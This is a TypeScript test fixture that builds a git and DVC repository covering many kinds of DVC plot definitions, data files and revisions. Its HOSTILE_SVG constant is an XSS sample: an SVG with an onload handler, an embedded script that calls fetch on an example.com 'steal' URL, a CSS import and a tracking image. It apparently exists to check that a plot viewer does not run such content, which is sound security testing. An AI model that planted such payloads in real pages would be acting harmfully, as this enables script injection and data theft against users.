// A git + DVC repository with a plot of every kind `dvc plots` knows: each built-in template, a custom
// template, stage-level and top-level definitions, `y` maps over several files and fields, per-file `x`,
// inferred x and y, a plots folder, a nested dvc.yaml with wdir, images (one of them an SVG carrying a script),
// and two bad definitions (a missing field, a missing file). Two commits (tag v1, then HEAD) and a changed
// working copy give three revisions to compare.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { dvcRepo, git } from './runner-workspace';

/** A 1×1 PNG. */
export const PNG_1x1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
  'base64',
);

/** An SVG image that would run a script, fetch a URL and restyle the page if it were ever inlined. */
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)">
<script>document.title='pwned';fetch('https://example.com/steal')</script>
<style>@import url(https://example.com/x.css); body{display:none}</style>
<rect width="40" height="40" fill="red"/><image href="https://example.com/track.png" width="1" height="1"/>
</svg>
`;

function csv(header: string[], rows: (string | number)[][]): string {
  return `${[header.join(','), ...rows.map((r) => r.join(','))].join('\n')}\n`;
}

/** Data of one version of the repository; `k` shifts the numbers so revisions differ. */
function dataFiles(k: number): Record<string, string> {
  const epochs = [0, 1, 2, 3, 4];
  const labels = ['cat', 'dog', 'bird'];
  const confusion: string[][] = [];
  for (let i = 0; i < 30; i++) confusion.push([labels[i % 3]!, labels[(i + (i % 4 === 0 ? 1 + k : 0)) % 3]!]);
  return {
    'plots/loss.csv': csv(
      ['epoch', 'loss', 'acc'],
      epochs.map((e) => [e, (1.5 / (e + 1 + k)).toFixed(4), (0.5 + e * 0.08 + k * 0.01).toFixed(3)]),
    ),
    'plots/train.csv': csv(
      ['epoch', 'acc', 'loss'],
      epochs.map((e) => [e, 0.6 + e * 0.07 + k / 100, 1 - e * 0.15]),
    ),
    'plots/test.csv': csv(
      ['step', 'acc'],
      epochs.map((e) => [e, 0.55 + e * 0.06 + k / 100]),
    ),
    'plots/confusion.csv': csv(['actual', 'predicted'], confusion),
    'plots/roc.json': JSON.stringify({
      roc: [0, 0.1, 0.3, 0.6, 1].map((fpr, i) => ({
        fpr,
        tpr: Math.min(1, fpr + 0.3 - k * 0.05 * (i % 2)),
        threshold: 1 - i / 4,
      })),
    }),
    'plots/scatter.tsv': `x\ty\tsize\n${epochs.map((e) => `${e * 1.5}\t${(e * e + k) % 7}\t${e}`).join('\n')}\n`,
    'plots/jitter.csv': csv(
      ['group', 'score'],
      epochs.map((e) => [e % 2, e + k]),
    ),
    'plots/importance.json': JSON.stringify([
      { feature: 'age', importance: 0.3 + k / 10 },
      { feature: 'height', importance: 0.5 },
      { feature: 'weight', importance: 0.2 },
    ]),
    'plots/importance.yaml': `features:\n  - name: a\n    gain: ${1 + k}\n  - name: b\n    gain: 3.5\n  - name: c\n    gain: 2\n`,
    'plots/inferred.yaml': `- p: 1\n  q: ${2 + k}\n- p: 2\n  q: 5\n`,
    'plots/custom.csv': csv(
      ['u', 'v'],
      [
        [1, 2 + k],
        [2, 3],
      ],
    ),
    'plots/dir/a.csv': csv(
      ['step', 'value'],
      [
        [0, 1 + k],
        [1, 2],
      ],
    ),
    'plots/dir/b.csv': csv(
      ['step', 'value'],
      [
        [0, 3],
        [1, 4 + k],
      ],
    ),
    'sub/out/s.csv': csv(
      ['t', 'r'],
      [
        [0, 0.1 * (k + 1)],
        [1, 0.2],
      ],
    ),
  };
}

const DVC_YAML = `stages:
  train:
    cmd: echo train
    plots:
      - plots/loss.csv:
          cache: false
          x: epoch
          y: loss
      - plots/confusion.csv:
          cache: false
          template: confusion
          x: actual
          y: predicted
          title: Confusion
plots:
  - plots/roc.json:
      x: fpr
      y: tpr
      template: simple
      title: ROC
      x_label: False positive rate
  - smooth-loss:
      template: smooth
      x: epoch
      y:
        plots/loss.csv: loss
  - normalized:
      template: confusion_normalized
      x: actual
      y:
        plots/confusion.csv: predicted
  - plots/scatter.tsv:
      template: scatter
      x: x
      y: y
  - plots/jitter.csv:
      template: scatter_jitter
      x: group
      y: score
  - plots/importance.json:
      template: bar_horizontal
      x: importance
      y: feature
  - plots/importance.yaml:
      template: bar_horizontal_sorted
      x: gain
      y: name
  - train-vs-test:
      x: epoch
      y:
        plots/train.csv: acc
        plots/loss.csv: acc
  - loss-and-acc:
      x: epoch
      y:
        plots/loss.csv: [loss, acc]
  - both-vary:
      x: epoch
      y:
        plots/train.csv: [acc, loss]
        plots/loss.csv: acc
  - per-file-x:
      x:
        plots/train.csv: epoch
        plots/test.csv: step
      y:
        plots/train.csv: acc
        plots/test.csv: acc
  - plots/inferred.yaml
  - plots/custom.csv:
      template: custom
      x: u
      y: v
  - plots/dir
  - plots/images
  - plots/hostile.svg
  - missing-field:
      x: epoch
      y:
        plots/loss.csv: nope
  - plots/gone.csv
`;

const SUB_DVC_YAML = `stages:
  sub:
    wdir: out
    cmd: echo sub
    plots:
      - s.csv:
          cache: false
          x: t
          y: r
`;

/** A custom template that names only data, x and y: DVC keeps `filename` and `field` on its rows. */
const CUSTOM_TEMPLATE = JSON.stringify({
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  data: { values: '<DVC_METRIC_DATA>' },
  mark: 'bar',
  encoding: { x: { field: '<DVC_METRIC_X>' }, y: { field: '<DVC_METRIC_Y>' } },
});

/** The repository: tag v1 (k=0), HEAD (k=1), and the working copy changed again (k=2, not committed). */
export function plotsRepo(): { root: string } {
  const root = dvcRepo(
    {
      'dvc.yaml': DVC_YAML,
      'sub/dvc.yaml': SUB_DVC_YAML,
      ...dataFiles(0),
    },
    'mlops-plots-',
  );
  const write = (files: Record<string, string | Buffer>): void => {
    for (const [p, data] of Object.entries(files)) {
      mkdirSync(dirname(join(root, p)), { recursive: true });
      writeFileSync(join(root, p), data);
    }
  };
  // `.dvc/` is made by `dvc init`, so the template comes after it.
  write({
    '.dvc/plots/custom.json': CUSTOM_TEMPLATE,
    'plots/images/a.png': PNG_1x1,
    'plots/images/step/1.png': PNG_1x1,
    'plots/hostile.svg': HOSTILE_SVG,
  });
  git(root, 'add', '-A');
  git(root, 'commit', '-qm', 'images');
  git(root, 'tag', 'v1');
  write(dataFiles(1));
  git(root, 'commit', '-qam', 'second version');
  write(dataFiles(2));
  return { root };
}
